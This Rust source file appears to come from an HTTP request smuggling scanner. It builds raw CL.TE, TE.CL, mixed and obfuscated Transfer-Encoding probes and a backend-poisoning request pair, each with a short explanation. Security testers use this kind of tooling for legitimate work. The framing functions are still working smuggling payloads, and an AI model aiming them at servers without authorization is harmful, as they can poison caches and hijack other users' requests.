// File: probe.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::error::{ProbeError, ProbeResult};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::fmt;

/// One short chunk followed by the zero-size terminator chunk.
pub const CHUNKED_PREAMBLE: &str = "1\r\nZ\r\n0\r\n\r\n";
/// Bare terminator chunk.
pub const CHUNK_TERMINATOR: &str = "0\r\n\r\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Technique {
    ClTe,
    TeCl,
    MixedTe,
    ObfuscatedTe,
    Poisoning,
}

impl Technique {
    /// Probe order used by the orchestrator.
    pub const ALL: [Technique; 5] = [
        Technique::ClTe,
        Technique::TeCl,
        Technique::MixedTe,
        Technique::ObfuscatedTe,
        Technique::Poisoning,
    ];

    pub fn name(&self) -> &'static str {
        match self {
            Self::ClTe => "CL.TE",
            Self::TeCl => "TE.CL",
            Self::MixedTe => "Mixed-TE",
            Self::ObfuscatedTe => "Obfuscated-TE",
            Self::Poisoning => "CL.TE-Poisoning",
        }
    }

    pub fn explanation(&self) -> &'static str {
        match self {
            Self::ClTe => {
                "Proxy trusts Content-Length, backend trusts Transfer-Encoding. \
                 Request boundaries may be desynchronized, allowing request smuggling."
            }
            Self::TeCl => {
                "Proxy trusts Transfer-Encoding, backend trusts Content-Length. \
                 Request boundaries may be desynchronized, allowing request smuggling."
            }
            Self::MixedTe => {
                "Multiple Transfer-Encoding headers are handled differently along the chain, \
                 causing parser desynchronization."
            }
            Self::ObfuscatedTe => {
                "A non-standard Transfer-Encoding value is ignored by one hop \
                 while another still treats the body as chunked."
            }
            Self::Poisoning => {
                "A leftover byte from the first request was prepended to the next request \
                 on the backend connection."
            }
        }
    }
}

impl fmt::Display for Technique {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A fully framed request ready for the wire.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Probe {
    pub technique: Technique,
    pub payload: Vec<u8>,
    pub declared_content_length: usize,
    /// Offset of the first byte after the header block.
    pub body_offset: usize,
    /// Offset where the smuggled continuation (or poison byte) starts.
    pub smuggled_offset: usize,
}

impl Probe {
    pub fn fingerprint(&self) -> String {
        fingerprint(&self.payload)
    }

    pub fn as_text(&self) -> String {
        String::from_utf8_lossy(&self.payload).into_owned()
    }
}

/// SHA-256 of the payload, hex encoded.
pub fn fingerprint(payload: &[u8]) -> String {
    let mut hasher = Sha256::new();
    hasher.update(payload);
    format!("{:x}", hasher.finalize())
}

/// Default request hidden behind the chunk terminator.
pub fn smuggled_request(path: &str, host_header: &str) -> String {
    format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", path, host_header)
}

#[derive(Debug, Clone)]
pub struct ProbeBuilder {
    host_header: String,
    method: String,
    path: String,
    headers: Vec<(String, String)>,
}

impl ProbeBuilder {
    pub fn new(host_header: &str) -> Self {
        Self {
            host_header: host_header.to_string(),
            method: "GET".to_string(),
            path: "/".to_string(),
            headers: Vec::new(),
        }
    }

    pub fn method(mut self, method: &str) -> Self {
        self.method = method.to_string();
        self
    }

    pub fn path(mut self, path: &str) -> Self {
        self.path = path.to_string();
        self
    }

    /// Headers are emitted in insertion order, after `Host`.
    pub fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    /// Adds the header unless one with the same name is already present.
    pub fn default_header(self, name: &str, value: &str) -> Self {
        if self.has_header(name) {
            self
        } else {
            self.header(name, value)
        }
    }

    pub fn headers<I, K, V>(mut self, headers: I) -> Self
    where
        I: IntoIterator<Item = (K, V)>,
        K: Into<String>,
        V: Into<String>,
    {
        self.headers
            .extend(headers.into_iter().map(|(k, v)| (k.into(), v.into())));
        self
    }

    /// Request line, `Host` and caller headers, without the terminating blank line.
    pub fn base_request(&self) -> ProbeResult<String> {
        check_token("method", &self.method)?;
        check_token("path", &self.path)?;
        check_value("Host header", &self.host_header)?;

        let mut request = format!(
            "{} {} HTTP/1.1\r\nHost: {}\r\n",
            self.method, self.path, self.host_header
        );
        for (name, value) in &self.headers {
            check_header_name(name)?;
            check_value(name, value)?;
            request.push_str(&format!("{}: {}\r\n", name, value));
        }
        Ok(request)
    }

    /// Plain request used to capture the reference response.
    pub fn baseline(&self) -> ProbeResult<Vec<u8>> {
        let mut request = self.base_request()?;
        if expects_body(&self.method) && !self.has_header("Content-Length") {
            request.push_str("Content-Length: 0\r\n");
        }
        if !self.has_header("Connection") {
            request.push_str("Connection: close\r\n");
        }
        request.push_str("\r\n");
        Ok(request.into_bytes())
    }

    pub fn cl_te(&self, smuggled: &str) -> ProbeResult<Probe> {
        require_smuggled(smuggled)?;
        self.framed(
            Technique::ClTe,
            &["Transfer-Encoding: chunked".to_string()],
            CHUNKED_PREAMBLE.len(),
            true,
            CHUNKED_PREAMBLE,
            smuggled,
        )
    }

    pub fn te_cl(&self, smuggled: &str) -> ProbeResult<Probe> {
        require_smuggled(smuggled)?;
        self.framed(
            Technique::TeCl,
            &["Transfer-Encoding: chunked".to_string()],
            CHUNK_TERMINATOR.len(),
            false,
            CHUNK_TERMINATOR,
            smuggled,
        )
    }

    pub fn mixed_te(&self, smuggled: &str, first: &str, second: &str) -> ProbeResult<Probe> {
        require_smuggled(smuggled)?;
        for value in [first, second] {
            if value.trim().is_empty() {
                return Err(ProbeError::malformed(
                    "Transfer-Encoding value cannot be empty",
                ));
            }
            check_value("Transfer-Encoding", value)?;
        }
        self.framed(
            Technique::MixedTe,
            &[
                format!("Transfer-Encoding: {}", first),
                format!("Transfer-Encoding: {}", second),
            ],
            CHUNKED_PREAMBLE.len(),
            true,
            CHUNKED_PREAMBLE,
            smuggled,
        )
    }

    pub fn obfuscated_te<S: AsRef<str>>(
        &self,
        smuggled: &str,
        obfuscations: &[S],
    ) -> ProbeResult<Probe> {
        require_smuggled(smuggled)?;
        if obfuscations.is_empty() {
            return Err(ProbeError::malformed("obfuscation value cannot be empty"));
        }

        let mut te_headers = vec!["Transfer-Encoding: chunked".to_string()];
        for obfuscation in obfuscations {
            let obfuscation = obfuscation.as_ref();
            if obfuscation.trim().is_empty() {
                return Err(ProbeError::malformed("obfuscation value cannot be empty"));
            }
            check_value("Transfer-Encoding", obfuscation)?;
            te_headers.push(format!("Transfer-Encoding: {}", obfuscation));
        }

        self.framed(
            Technique::ObfuscatedTe,
            &te_headers,
            CHUNKED_PREAMBLE.len(),
            true,
            CHUNKED_PREAMBLE,
            smuggled,
        )
    }

    /// First half of the poisoning pair: a terminated chunked body followed by
    /// one stray byte that Content-Length still covers.
    pub fn poison(&self, prefix: &str) -> ProbeResult<Probe> {
        if prefix.len() != 1 || !prefix.is_ascii() {
            return Err(ProbeError::malformed(
                "poison prefix must be exactly one ASCII byte",
            ));
        }
        check_value("poison prefix", prefix)?;

        let mut request = self.base_request()?;
        self.check_no_framing_headers()?;
        if !self.has_header("Content-Type") {
            request.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
        }
        let body = format!("{}{}", CHUNK_TERMINATOR, prefix);
        request.push_str("Transfer-Encoding: chunked\r\n");
        request.push_str(&format!("Content-Length: {}\r\n", body.len()));
        request.push_str("\r\n");

        let body_offset = request.len();
        request.push_str(&body);

        Ok(Probe {
            technique: Technique::Poisoning,
            payload: request.into_bytes(),
            declared_content_length: body.len(),
            body_offset,
            smuggled_offset: body_offset + CHUNK_TERMINATOR.len(),
        })
    }

    /// Second half of the poisoning pair: an ordinary request on a fresh connection.
    pub fn follow_up(&self, method: &str) -> ProbeResult<Vec<u8>> {
        check_token("method", method)?;
        let mut request = self.clone().method(method).base_request()?;
        if expects_body(method) && !self.has_header("Content-Length") {
            request.push_str("Content-Length: 0\r\n");
        }
        if !self.has_header("Connection") {
            request.push_str("Connection: close\r\n");
        }
        request.push_str("\r\n");
        Ok(request.into_bytes())
    }

    fn framed(
        &self,
        technique: Technique,
        te_headers: &[String],
        content_length: usize,
        te_first: bool,
        chunk_body: &str,
        smuggled: &str,
    ) -> ProbeResult<Probe> {
        let mut request = self.base_request()?;
        self.check_no_framing_headers()?;

        let cl_header = format!("Content-Length: {}\r\n", content_length);
        if !te_first {
            request.push_str(&cl_header);
        }
        for te in te_headers {
            request.push_str(te);
            request.push_str("\r\n");
        }
        if te_first {
            request.push_str(&cl_header);
        }
        request.push_str("\r\n");

        let body_offset = request.len();
        request.push_str(chunk_body);
        let smuggled_offset = request.len();
        request.push_str(smuggled);

        Ok(Probe {
            technique,
            payload: request.into_bytes(),
            declared_content_length: content_length,
            body_offset,
            smuggled_offset,
        })
    }

    fn has_header(&self, name: &str) -> bool {
        self.headers
            .iter()
            .any(|(existing, _)| existing.eq_ignore_ascii_case(name))
    }

    fn check_no_framing_headers(&self) -> ProbeResult<()> {
        for name in ["Content-Length", "Transfer-Encoding"] {
            if self.has_header(name) {
                return Err(ProbeError::malformed(format!(
                    "{} is controlled by the probe framing and cannot be set by the caller",
                    name
                )));
            }
        }
        Ok(())
    }
}

fn require_smuggled(smuggled: &str) -> ProbeResult<()> {
    if smuggled.is_empty() {
        return Err(ProbeError::malformed("smuggled body cannot be empty"));
    }
    Ok(())
}

/// Methods other than GET and HEAD announce an empty body explicitly.
fn expects_body(method: &str) -> bool {
    !method.eq_ignore_ascii_case("GET") && !method.eq_ignore_ascii_case("HEAD")
}

fn check_token(what: &str, value: &str) -> ProbeResult<()> {
    if value.is_empty() || value.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err(ProbeError::malformed(format!("invalid {}: {:?}", what, value)));
    }
    Ok(())
}

fn check_header_name(name: &str) -> ProbeResult<()> {
    if name.is_empty()
        || name
            .chars()
            .any(|c| c == ':' || c.is_whitespace() || c.is_control())
    {
        return Err(ProbeError::malformed(format!("invalid header name: {:?}", name)));
    }
    Ok(())
}

fn check_value(what: &str, value: &str) -> ProbeResult<()> {
    if value.contains('\r') || value.contains('\n') {
        return Err(ProbeError::malformed(format!(
            "{} contains a line break",
            what
        )));
    }
    Ok(())
}

#[cfg(test)]
#[path = "probe_tests.rs"]
mod tests;
